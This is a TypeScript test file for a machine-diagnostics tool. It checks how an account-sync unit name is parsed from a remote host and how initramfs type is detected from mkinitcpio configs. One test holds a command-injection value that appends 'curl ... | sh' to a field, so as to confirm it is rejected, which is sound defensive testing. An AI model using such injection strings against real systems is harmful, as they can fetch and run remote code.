import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { expect, test } from 'vitest';
import { firstLook } from '../../../activities/doctor/first-look.ts';
import { rawText } from '../../../activities/hosts/remote/scripts.ts';
import { fakeRemote } from '../hosts/fake-remote.ts';

const answered = (sync: string) =>
  firstLook(
    fakeRemote(({ name }) => (name === 'first-look' ? `zone=Asia/Seoul\nsudo=nopasswd\nsync=${sync}\n` : '')),
    'asahi',
  );

test('the unit that syncs accounts is taken from a host; no other word of it becomes a command', async () => {
  expect((await answered('bacchus-nss-sync.service')).sync).toBe('bacchus-nss-sync.service');
  expect((await answered('x.service; curl http://example.org | sh')).sync).toBeUndefined();
});

/** Runs `check-boot.sh` as on a machine with these files of mkinitcpio. */
async function initramfsOf(files: Readonly<Record<string, string>>): Promise<string | undefined> {
  const folder = await mkdtemp(path.join(tmpdir(), 'check-boot-'));
  try {
    await mkdir(path.join(folder, 'mkinitcpio.conf.d'));
    for (const [name, text] of Object.entries(files)) await writeFile(path.join(folder, name), text);
    const script = (await rawText('check-boot')).replaceAll('/etc/mkinitcpio', `${folder}/mkinitcpio`);
    const machine =
      'set -euo pipefail; boot_once_obstacles() { :; }; set -- /boot; systemd-detect-virt() { return 1; }; ';
    const { stdout } = await execa('bash', ['-c', `${machine}\n${script}`]);
    return /^initramfs=(.*)$/m.exec(stdout)?.[1];
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

test.each([
  ['no mkinitcpio', {}, 'unknown'],
  ['one file, no drop-in', { 'mkinitcpio.conf': 'HOOKS=(base udev autodetect filesystems fsck)\n' }, 'busybox'],
  ['systemd', { 'mkinitcpio.conf': 'HOOKS=(base systemd autodetect)\n' }, 'systemd'],
  [
    'a drop-in wins',
    { 'mkinitcpio.conf': 'HOOKS=(base udev)\n', 'mkinitcpio.conf.d/hooks.conf': 'HOOKS=(base systemd)\n' },
    'systemd',
  ],
  ['several lines are not read', { 'mkinitcpio.conf': 'HOOKS=(base\n  udev)\n' }, 'unknown'],
])('the initramfs of a machine: %s', async (_, files, expected) => {
  expect(await initramfsOf(files)).toBe(expected);
});
